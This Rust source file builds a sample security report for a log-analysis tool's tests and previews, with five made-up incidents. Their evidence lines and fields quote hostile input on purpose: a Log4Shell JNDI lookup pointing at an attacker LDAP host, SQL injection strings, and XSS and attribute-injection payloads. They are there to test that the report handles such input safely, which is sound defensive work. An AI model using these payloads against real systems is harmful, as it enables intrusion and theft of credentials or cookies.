//! A realistic sample document: several incidents (with the hostile strings
//! real logs contain), a previous period, a 48-point timeline. Used by the
//! tests, `examples/sample.rs` and anyone previewing a report layout.

use crate::model::*;

/// 2026-11-22 00:00 UTC.
pub const SAMPLE_START_MS: i64 = 1_795_305_600_000;

/// A day of traffic on `web-1` in 30-minute buckets with five incidents.
pub fn sample_doc() -> ReportDoc {
    let start = SAMPLE_START_MS;
    let bucket = 30 * 60_000;
    let points: Vec<TimelinePoint> = (0..48i64)
        .map(|i| {
            // A daily curve plus an attack burst around 06:00.
            let base = 400 + ((i - 24).unsigned_abs() as i64 * -12 + 300).max(0) as u64;
            let burst = if (12..15).contains(&i) { 900 } else { 0 };
            TimelinePoint {
                t_ms: start + i * bucket,
                events: base + burst + (i as u64 * 37) % 90,
                flagged: burst / 2 + (i as u64 * 7) % 11,
            }
        })
        .collect();
    let ev = |file: &str, line: u64, raw: &str| EvidenceLine {
        file: file.into(),
        line,
        raw: raw.into(),
    };
    let incidents = vec![
        ReportIncident {
            id: Some(412),
            rule_id: "web.log4shell".into(),
            title: "Log4Shell JNDI lookup in request".into(),
            category: "log4shell".into(),
            severity: "critical".into(),
            source_ip: Some("203.0.113.66".into()),
            user: None,
            status: Some("investigating".into()),
            count: 3,
            first_seen_ms: start + 6 * 3_600_000 + 120_000,
            last_seen_ms: start + 6 * 3_600_000 + 540_000,
            description: "A request carried a ${jndi:...} lookup, which makes vulnerable Log4j versions load code from the attacker's server.".into(),
            recommendation: "Check that no Java service logs request data with Log4j 2.0–2.14.1; block the source.".into(),
            response: vec![
                "Block 203.0.113.66 at the firewall.".into(),
                "Search application logs for outbound LDAP/RMI connections after 06:02.".into(),
                "Upgrade Log4j to 2.17.1 or later, or remove the JndiLookup class.".into(),
            ],
            evidence: vec![ev(
                "/var/log/nginx/access.log",
                88213,
                "203.0.113.66 - - [22/Nov/2026:06:02:11 +0000] \"GET /?x=${jndi:ldap://203.0.113.66:1389/a} HTTP/1.1\" 404 153 \"-\" \"${jndi:ldap://203.0.113.66/ua}\"",
            )],
        },
        ReportIncident {
            id: Some(409),
            rule_id: "web.sqli".into(),
            title: "SQL injection attempts".into(),
            category: "sqli".into(),
            severity: "high".into(),
            source_ip: Some("198.51.100.23".into()),
            user: None,
            status: Some("new".into()),
            count: 214,
            first_seen_ms: start + 5 * 3_600_000 + 3_000_000,
            last_seen_ms: start + 7 * 3_600_000 + 60_000,
            description: "Requests whose parameters contain SQL syntax (UNION SELECT, OR 1=1, sleep()).".into(),
            recommendation: "Make sure the application uses parameterised queries; block the IP if it continues.".into(),
            response: vec![
                "Block 198.51.100.23.".into(),
                "Check the database log for errors at the same times.".into(),
                "Review the targeted endpoints (/search, /product) for string-built SQL.".into(),
            ],
            evidence: vec![
                ev("/var/log/nginx/access.log", 70001, "198.51.100.23 - - [22/Nov/2026:05:50:00 +0000] \"GET /search?q=1'%20UNION%20SELECT%20username,password%20FROM%20users-- HTTP/1.1\" 500 0"),
                ev("/var/log/nginx/access.log", 91544, "198.51.100.23 - - [22/Nov/2026:07:01:00 +0000] \"GET /product?id=1%20AND%20sleep(5) HTTP/1.1\" 200 5120"),
            ],
        },
        ReportIncident {
            id: Some(410),
            rule_id: "web.xss".into(),
            title: "Cross-site scripting probe".into(),
            category: "xss".into(),
            severity: "medium".into(),
            source_ip: Some("192.0.2.200".into()),
            user: Some("\"><img src=x onerror=alert(document.cookie)>".into()),
            status: Some("triaged".into()),
            count: 17,
            first_seen_ms: start + 9 * 3_600_000,
            last_seen_ms: start + 9 * 3_600_000 + 900_000,
            description: "Script markup in request parameters: <script>alert(1)</script> and javascript: URLs.".into(),
            recommendation: "Confirm output encoding on the affected pages.".into(),
            response: vec!["Review the pages named in the evidence.".into()],
            evidence: vec![ev(
                "/var/log/nginx/access.log",
                120999,
                "192.0.2.200 - - [22/Nov/2026:09:00:01 +0000] \"GET /comment?text=<script>alert(1)</script>&next=javascript:alert(2) HTTP/1.1\" 200 99 \"-\" \"Mozilla/5.0\u{1b}[31m\"",
            )],
        },
        ReportIncident {
            id: Some(405),
            rule_id: "auth.ssh_brute_force".into(),
            title: "SSH brute force against root".into(),
            category: "brute_force".into(),
            severity: "high".into(),
            source_ip: Some("2001:db8::bad:1".into()),
            user: Some("root".into()),
            status: Some("contained".into()),
            count: 1_532,
            first_seen_ms: start + 3_600_000,
            last_seen_ms: start + 4 * 3_600_000,
            description: "Many failed SSH logins from one address in a short window.".into(),
            recommendation: "Disable password logins for root; use keys.".into(),
            response: vec![
                "Keep 2001:db8::bad:1 blocked.".into(),
                "Set PermitRootLogin prohibit-password in sshd_config.".into(),
            ],
            evidence: vec![ev(
                "/var/log/auth.log",
                5521,
                "Nov 22 01:00:04 web-1 sshd[2211]: Failed password for root from 2001:db8::bad:1 port 52144 ssh2",
            )],
        },
        ReportIncident {
            id: Some(411),
            rule_id: "web.scanner".into(),
            title: "Vulnerability scanner (Nikto) – Größe ñandú".into(),
            category: "scanner".into(),
            severity: "low".into(),
            source_ip: Some("198.51.100.77".into()),
            user: None,
            status: Some("resolved".into()),
            count: 3_077,
            first_seen_ms: start + 12 * 3_600_000,
            last_seen_ms: start + 12 * 3_600_000 + 700_000,
            description: "Known scanner user agent and probes for common admin paths.".into(),
            recommendation: "No action needed if nothing answered 200.".into(),
            response: vec![],
            evidence: vec![],
        },
    ];
    ReportDoc {
        version: REPORT_VERSION,
        id: Some(57),
        generated_ms: start + 86_400_000 + 300_000,
        period_start_ms: start,
        period_end_ms: start + 86_400_000,
        scope: "web-1".into(),
        threat_level: "critical".into(),
        summary: PeriodSummary {
            events: points.iter().map(|p| p.events).sum(),
            flagged_events: points.iter().map(|p| p.flagged).sum(),
            incidents: 5,
            high_or_worse: 3,
            attackers: 5,
            blocked_ips: 2,
            by_severity: vec![
                Count {
                    key: "critical".into(),
                    count: 1,
                },
                Count {
                    key: "high".into(),
                    count: 2,
                },
                Count {
                    key: "medium".into(),
                    count: 1,
                },
                Count {
                    key: "low".into(),
                    count: 1,
                },
            ],
        },
        previous: Some(PeriodSummary {
            events: 30_000,
            flagged_events: 800,
            incidents: 2,
            high_or_worse: 0,
            attackers: 2,
            blocked_ips: 1,
            by_severity: vec![Count {
                key: "medium".into(),
                count: 2,
            }],
        }),
        incidents,
        incidents_omitted: 0,
        top_attackers: vec![
            Attacker {
                ip: "198.51.100.77".into(),
                requests: 3_100,
                flagged: 3_077,
                categories: vec!["scanner".into()],
                blocked: false,
            },
            Attacker {
                ip: "2001:db8::bad:1".into(),
                requests: 1_532,
                flagged: 1_532,
                categories: vec!["brute_force".into()],
                blocked: true,
            },
            Attacker {
                ip: "198.51.100.23".into(),
                requests: 260,
                flagged: 214,
                categories: vec!["sqli".into(), "scanner".into()],
                blocked: false,
            },
            Attacker {
                ip: "192.0.2.200".into(),
                requests: 40,
                flagged: 17,
                categories: vec!["xss".into()],
                blocked: false,
            },
            Attacker {
                ip: "203.0.113.66".into(),
                requests: 3,
                flagged: 3,
                categories: vec!["log4shell".into()],
                blocked: true,
            },
        ],
        categories: vec![
            Count {
                key: "scanner".into(),
                count: 3_077,
            },
            Count {
                key: "brute_force".into(),
                count: 1_532,
            },
            Count {
                key: "sqli".into(),
                count: 214,
            },
            Count {
                key: "xss".into(),
                count: 17,
            },
            Count {
                key: "log4shell".into(),
                count: 3,
            },
        ],
        timeline: Timeline {
            bucket_ms: bucket,
            points,
        },
        analytics: ReportAnalytics {
            top_pages: vec![
                Count {
                    key: "/".into(),
                    count: 9_120,
                },
                Count {
                    key: "/search".into(),
                    count: 2_410,
                },
                Count {
                    key: "/product".into(),
                    count: 1_980,
                },
                Count {
                    key: "/wp-login.php".into(),
                    count: 640,
                },
                Count {
                    key: "/<script>alert('page')</script>".into(),
                    count: 12,
                },
            ],
            top_referrers: vec![
                Count {
                    key: "www.google.com".into(),
                    count: 3_100,
                },
                Count {
                    key: "duckduckgo.com".into(),
                    count: 420,
                },
                Count {
                    key: "evil.example\"onmouseover=\"alert(1)".into(),
                    count: 3,
                },
            ],
            status_classes: vec![
                Count {
                    key: "2xx".into(),
                    count: 24_000,
                },
                Count {
                    key: "3xx".into(),
                    count: 2_100,
                },
                Count {
                    key: "4xx".into(),
                    count: 4_800,
                },
                Count {
                    key: "5xx".into(),
                    count: 230,
                },
            ],
            by_kind: vec![
                Count {
                    key: "http".into(),
                    count: 31_130,
                },
                Count {
                    key: "auth".into(),
                    count: 1_700,
                },
            ],
        },
    }
}
